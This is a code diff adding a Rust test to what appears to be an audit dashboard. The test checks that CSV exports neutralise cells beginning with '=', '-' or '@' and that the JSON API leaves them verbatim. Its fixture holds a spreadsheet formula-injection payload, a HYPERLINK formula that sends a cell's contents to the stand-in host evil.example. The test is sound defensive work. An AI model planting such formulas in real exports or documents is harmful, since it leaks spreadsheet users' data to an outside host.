@@ -186,6 +186,26 @@ async fn csv_export_holds_exactly_the_filtered_rows() {
 }
 
 #[tokio::test]
+async fn csv_cells_that_would_be_formulas_are_inert_and_json_stays_verbatim() {
+    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1)";
+    let (_db, pool) = migrated_db().await;
+    let mut r = WriteRecord::new("-svc", FORMULA, "PUT", Outcome::Unprotected, Finding::MissingToken, SystemTime::now());
+    r.caller = Some("@caller".into());
+    insert_writes(&**pool.get().await.unwrap(), &[r]).await.unwrap();
+    let app = palisade_audit::dashboard::router(pool);
+
+    let csv_body = get(&app, "/unprotected.csv").await.body;
+    let mut reader = csv::Reader::from_reader(csv_body.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(&rows[0][1], "'-svc");
+    assert_eq!(&rows[0][2], format!("'{FORMULA}"));
+    assert_eq!(&rows[0][8], "'@caller");
+    let api = json(&get(&app, "/api/unprotected").await.body);
+    assert_eq!(resources(&api), [FORMULA], "the JSON API is not a spreadsheet");
+}
+
+#[tokio::test]
 async fn the_hourly_chart_counts_each_hour() {
     let (_db, app, rows) = seeded().await;
     let hourly = json(&get(&app, "/api/unprotected/hourly").await.body);
